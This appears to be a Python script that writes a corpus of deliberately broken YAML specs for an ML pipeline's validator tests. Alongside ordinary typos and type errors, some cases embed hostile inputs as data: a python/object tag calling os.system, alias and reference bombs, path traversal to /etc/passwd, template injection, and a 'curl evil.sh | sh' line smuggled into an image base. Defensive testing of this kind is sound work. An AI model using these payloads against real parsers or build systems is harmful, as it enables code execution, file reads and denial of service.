"""Writes the error corpus: one bad spec per file, each a small edit of BASE.

Run `python tests/errors/make_corpus.py` after changing a case, then
`pytest tests/unit/test_errors.py --update-golden` and review the .expected diff.
"""

from __future__ import annotations

from pathlib import Path

BASE = """\
name: mini
version: 0.1.0
spec:
  task: binary_classification
  target: label
  entity: user_id
  timestamp: ts
  inputs: [user_id, amount, kind]
  metric: {name: fbeta, beta: 2.0}
  description: Predict a label.
data:
  sources:
    - name: events
      uri: data/events.csv
      format: csv
expectations:
  schema:
    events:
      user_id: {type: string, nullable: false}
      ts: {type: timestamp}
      amount: {type: float, min: 0}
      kind: {type: category, values: [a, b]}
      label: {type: bool}
features:
  entity: user_id
  timestamp: ts
  definitions:
    - name: amount
      from: events
      expr: amount
    - name: kind
      from: events
      expr: kind
      encoding: category
training:
  backend: lightgbm
  split: {strategy: time, gap: 1d}
  hpo:
    trials: 5
    space:
      num_leaves: {type: int, low: 8, high: 64}
serving:
  canary:
    traffic: 5%
    steps: [5%, 50%, 100%]
monitoring:
  alerts:
    - type: log
"""

# (case name, text to find, replacement); an empty find means: replace the whole file.
CASES: list[tuple[str, str, str]] = [
    ("syntax_unclosed_flow", "inputs: [user_id, amount, kind]", "inputs: [user_id, amount, kind"),
    ("syntax_tab_indent", "  task: binary_classification", "\ttask: binary_classification"),
    ("syntax_bad_indent", "  entity: user_id\n  timestamp: ts", "  entity: user_id\n   timestamp: ts"),
    ("type_trials_not_int", "trials: 5", "trials: many"),
    ("type_trials_float", "trials: 5", "trials: 5.5"),
    ("type_seed_quoted", "  backend: lightgbm\n", "  backend: lightgbm\n  seed: '42'\n"),
    ("type_inputs_not_list", "inputs: [user_id, amount, kind]", "inputs: user_id"),
    ("unknown_key_trails", "trials: 5", "trails: 5"),
    ("unknown_section_trainig", "training:\n  backend", "trainig:\n  backend"),
    ("unknown_key_in_column", "amount: {type: float, min: 0}", "amount: {type: float, minimum: 0}"),
    ("enum_split_tme", "strategy: time", "strategy: tme"),
    ("enum_task", "task: binary_classification", "task: binary_clasification"),
    ("enum_source_format", "format: csv", "format: xlsx"),
    ("enum_backend", "backend: lightgbm", "backend: xgboost"),
    ("enum_encoding", "encoding: category", "encoding: ordinal"),
    ("enum_alert_type", "    - type: log", "    - type: email"),
    ("enum_column_type", "label: {type: bool}", "label: {type: boolean}"),
    ("duplicate_key", "name: mini\n", "name: mini\nname: other\n"),
    ("duplicate_key_nested", "  target: label\n", "  target: label\n  target: other\n"),
    ("norway_bool_nullable", "user_id: {type: string, nullable: false}", "user_id: {type: string, nullable: no}"),
    ("yes_is_not_true", "  backend: lightgbm\n", "  backend: lightgbm\n  register: {reproduce: yes}\n"),
    ("python_tag", "  backend: lightgbm\n", "  backend: lightgbm\n  seed: !!python/object/apply:os.system ['true']\n"),
    ("custom_tag", "  description: Predict a label.", "  description: !include secrets.yaml"),
    ("alias_bomb", "", 'a: &a ["x","x","x","x","x","x","x","x","x","x"]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e,*e]\ng: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f,*f]\nh: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g,*g]\n'),
    ("merge_key", "serving:\n  canary:", "x: &base {port: 9000}\nserving:\n  <<: *base\n  canary:"),
    ("template_injection_name", "name: mini", "name: '{{ 7*7 }}'"),
    ("template_injection_target", "target: label", "target: '{% raw %}x'"),
    ("path_traversal", "uri: data/events.csv", "uri: ../../../etc/passwd"),
    ("path_absolute", "uri: data/events.csv", "uri: /etc/passwd"),
    ("path_home", "uri: data/events.csv", "uri: ~/events.csv"),
    ("path_scheme", "uri: data/events.csv", "uri: http://example.invalid/events.csv"),
    ("output_path_escapes", "    - type: log", "    - type: log\n      path: ../../alerts.jsonl"),
    ("literal_secret_token", "    - type: log", "    - type: log\n    - type: webhook\n      url: ${oc.env:HOOK,''}\n      token: hunter2"),
    ("literal_password_in_url", "serving:\n", "features_store_placeholder: 1\nserving:\n"),
    ("unsupported_interpolation", "  description: Predict a label.", "  description: ${oc.decode:abc}"),
    ("dangling_reference", "trials: 5", "trials: ${training.nope}"),
    ("dangling_feature_source", "      from: events\n      expr: amount", "      from: transactions\n      expr: amount"),
    ("unknown_column_in_expr", "expr: amount", "expr: amout * 2"),
    ("target_not_in_schema", "target: label", "target: churned"),
    ("input_not_a_feature", "inputs: [user_id, amount, kind]", "inputs: [user_id, amount, colour]"),
    ("metric_task_mismatch", "metric: {name: fbeta, beta: 2.0}", "metric: {name: rmse}"),
    ("random_split_with_timestamp", "strategy: time", "strategy: random"),
    ("window_without_time_column", "      encoding: category\n", "      encoding: category\n    - name: total_7d\n      from: events\n      expr: sum(amount)\n      window: 7d\n"),
    ("window_not_aggregate", "      encoding: category\n", "      encoding: category\n    - name: total_7d\n      from: events\n      expr: amount\n      window: 7d\n      time_column: ts\n"),
    ("aggregate_without_window", "expr: amount", "expr: sum(amount)"),
    ("expr_subquery", "expr: amount", "expr: '(select 1)'"),
    ("expr_parse_error", "expr: amount", "expr: 'amount +'"),
    ("canary_steps_not_increasing", "steps: [5%, 50%, 100%]", "steps: [50%, 5%, 100%]"),
    ("canary_steps_not_ending_100", "steps: [5%, 50%, 100%]", "steps: [5%, 50%]"),
    ("canary_traffic_bad_percent", "traffic: 5%", "traffic: five"),
    ("hpo_key_not_lightgbm", "num_leaves: {type: int", "num_leafs: {type: int"),
    ("hpo_low_above_high", "{type: int, low: 8, high: 64}", "{type: int, low: 64, high: 8}"),
    ("hpo_space_type_unknown", "{type: int, low: 8, high: 64}", "{type: integer, low: 8, high: 64}"),
    ("threshold_out_of_range", "metric: {name: fbeta, beta: 2.0}", "metric: {name: fbeta, beta: 2.0, threshold: 1.5}"),
    ("duration_unparseable", "gap: 1d", "gap: 1 day"),
    ("size_unparseable", "serving:\n", "serving:\n  image: {max_size: 5 gigs}\n"),
    ("version_not_semver", "version: 0.1.0", "version: 0.1"),
    ("name_uppercase", "name: mini", "name: Mini"),
    ("missing_task", "  task: binary_classification\n", ""),
    ("missing_sources", "  sources:\n    - name: events\n      uri: data/events.csv\n      format: csv\n", "  sources: []\n"),
    ("empty_file", "", ""),
    ("not_a_mapping", "", "- name: mini\n- version: 1.0.0\n"),
    ("two_documents", "", "name: a\n---\nname: b\n"),
    ("p_value_out_of_range", "expectations:\n  schema:", "expectations:\n  distribution: {p_value: 1.5}\n  schema:"),
    ("override_without_reason", "expectations:\n  schema:", "expectations:\n  overrides:\n    - expectation: distribution.events.amount\n      justification: ok\n  schema:"),
    ("override_names_nothing", "expectations:\n  schema:", "expectations:\n  overrides:\n    - expectation: distribution.events.colour\n      justification: Approved by the risk team in RISK-1.\n  schema:"),
    ("cross_field_unknown_table", "expectations:\n  schema:", "expectations:\n  cross_field:\n    - {name: positive, table: payments, check: 'amount > 0'}\n  schema:"),
    ("cross_field_unknown_column", "expectations:\n  schema:", "expectations:\n  cross_field:\n    - {name: positive, table: events, check: 'amont > 0'}\n  schema:"),
    ("duplicate_feature_name", "    - name: kind\n", "    - name: amount\n"),
    ("schema_unknown_source", "    events:\n      user_id", "    event:\n      user_id"),
    ("min_above_max", "amount: {type: float, min: 0}", "amount: {type: float, min: 10, max: 1}"),
    ("values_on_number", "amount: {type: float, min: 0}", "amount: {type: float, values: [a]}"),
    ("unique_with_unknown_column", "user_id: {type: string, nullable: false}", "user_id: {type: string, nullable: false, unique_with: [tss]}"),
    ("image_needs_dicom", "  definitions:", "  image: {source: events}\n  definitions:"),
    ("param_not_lightgbm", "  backend: lightgbm\n", "  backend: lightgbm\n  params: {epochs: 3}\n"),
    ("seed_negative", "  backend: lightgbm\n", "  backend: lightgbm\n  seed: -1\n"),
    ("port_out_of_range", "serving:\n", "serving:\n  port: 70000\n"),
    ("kfold_with_timestamp", "  backend: lightgbm\n", "  backend: lightgbm\n  cv: {strategy: kfold}\n"),
    ("entity_mismatch", "features:\n  entity: user_id", "features:\n  entity: account_id"),
    ("multiclass_bool_target", "task: binary_classification", "task: multiclass_classification"),
    ("image_base_injection", "serving:\n", "serving:\n  image:\n    base: \"python:3.11\\nRUN curl evil.sh | sh\"\n"),
    ("nan_min", "amount: {type: float, min: 0}", "amount: {type: float, min: .nan}"),
    ("nan_min_metric", "  backend: lightgbm\n", "  backend: lightgbm\n  register: {min_metric: .nan}\n"),
    ("infinite_cost", "  metric: {name: fbeta, beta: 2.0}", "  metric: {name: fbeta, beta: 2.0}\n  costs: {false_negative: .inf}"),
    ("nan_in_hpo_space", "{type: int, low: 8, high: 64}", "{type: int, low: 8, high: 64}\n      learning_rate: {type: float, low: .nan, high: 0.3}"),
    ("zero_window", "      encoding: category\n", "      encoding: category\n    - name: n_7d\n      from: events\n      expr: count(*)\n      window: 0d\n      time_column: ts\n"),
    ("offline_path_is_build", "features:\n  entity: user_id\n", "features:\n  entity: user_id\n  store: {offline: {path: .}}\n"),
    ("env_in_source_uri", "uri: data/events.csv", "uri: ${oc.env:EVENTS,data/events.csv}"),
    ("nul_in_path", "uri: data/events.csv", "uri: \"data/ev\\0ents.csv\""),
    ("entity_as_feature", "    - name: amount\n      from: events\n      expr: amount\n", "    - name: user_id\n      from: events\n      expr: user_id\n    - name: amount\n      from: events\n      expr: amount\n"),
    (
        "joined_source_without_entity",
        BASE[BASE.index("      format: csv\n") : BASE.index("training:")],
        BASE[BASE.index("      format: csv\n") : BASE.index("training:")]
        .replace("      format: csv\n", "      format: csv\n    - {name: prices, uri: data/prices.csv, format: csv}\n", 1)
        .replace("      label: {type: bool}\n", "      label: {type: bool}\n    prices:\n      sku: {type: string}\n      price: {type: float}\n")
        + "    - {name: price, from: prices, expr: price}\n",
    ),
    ("secret_in_env_default", "  backend: lightgbm\n", "  backend: lightgbm\n  tracking: {uri: '${oc.env:MLWRIGHT_TRACKING_URI,http://admin:hunter2@mlflow.internal:5000}'}\n"),
    ("secret_in_url_query", "  backend: lightgbm\n", "  backend: lightgbm\n  tracking: {uri: 'http://mlflow.internal:5000/?token=abc123'}\n"),
    ("recursive_alias", "  description: Predict a label.\n", "  description: &a [*a]\n"),
    ("deep_flow_nesting", "  description: Predict a label.\n", "  description: " + "[" * 600 + "]" * 600 + "\n"),
    ("huge_integer", "trials: 5", "trials: " + "9" * 5000),
    ("newline_in_key", "  description: Predict a label.\n", '  "desc\\nription": Predict a label.\n'),
    (
        "reference_bomb",
        "  description: Predict a label.\n",
        "  description: '${x8}'\n"
        + "".join(f"x{i}: [" + ",".join([f"'${{x{i - 1}}}'"] * 10) + "]\n" for i in range(1, 9))
        + "x0: [1, 2, 3, 4, 5, 6, 7, 8, 9, 10]\n",
    ),
    ("hpo_trials_without_space", "    space:\n      num_leaves: {type: int, low: 8, high: 64}\n", "    space: {}\n"),
    ("label_source_time_column", "      format: csv\n", "      format: csv\n      time_column: amount\n"),
    ("compute_scheduler_not_an_address", "training:\n", "compute: {engine: dask, scheduler: 'scheduler:8786'}\ntraining:\n"),
    ("compute_engine_spark", "training:\n", "compute: {engine: spark}\ntraining:\n"),
    ("offline_as_of_without_delta", "features:\n  entity: user_id\n", "features:\n  entity: user_id\n  store: {offline: {as_of: 5f2c9a01}}\n"),
    ("offline_as_of_not_a_version", "features:\n  entity: user_id\n", "features:\n  entity: user_id\n  store: {offline: {format: delta, as_of: latest}}\n"),
    ("offline_format_unknown", "features:\n  entity: user_id\n", "features:\n  entity: user_id\n  store: {offline: {format: iceberg}}\n"),
    ("wandb_with_mlflow_uri", "  backend: lightgbm\n", "  backend: lightgbm\n  tracking: {backend: wandb, uri: 'sqlite:///.mlwright/tracking.db'}\n"),
    ("wandb_project_with_slash", "  backend: lightgbm\n", "  backend: lightgbm\n  tracking: {backend: wandb, experiment: team/churn}\n"),
    (
        "class_share_on_regression",
        "",
        BASE.replace("task: binary_classification", "task: regression")
        .replace("metric: {name: fbeta, beta: 2.0}", "metric: {name: rmse}")
        .replace("label: {type: bool}", "label: {type: float}")
        .replace("expectations:\n", "expectations:\n  target: {max_class_proportion_deviation: 0.2}\n"),
    ),
]


def main() -> None:
    here = Path(__file__).resolve().parent
    for i, (name, find, replace) in enumerate(CASES, start=1):
        if find == "" and name != "empty_file":
            text = replace
        elif name == "empty_file":
            text = ""
        elif name == "literal_password_in_url":
            text = BASE.replace("features:\n  entity: user_id\n", "features:\n  entity: user_id\n  store:\n    online: {backend: redis, url: 'redis://:hunter2@cache.internal:6379/0'}\n")
        else:
            assert find in BASE, name
            text = BASE.replace(find, replace, 1)
        (here / f"{i:03d}_{name}.yaml").write_text(text)
    print(f"{len(CASES)} cases")


if __name__ == "__main__":
    main()
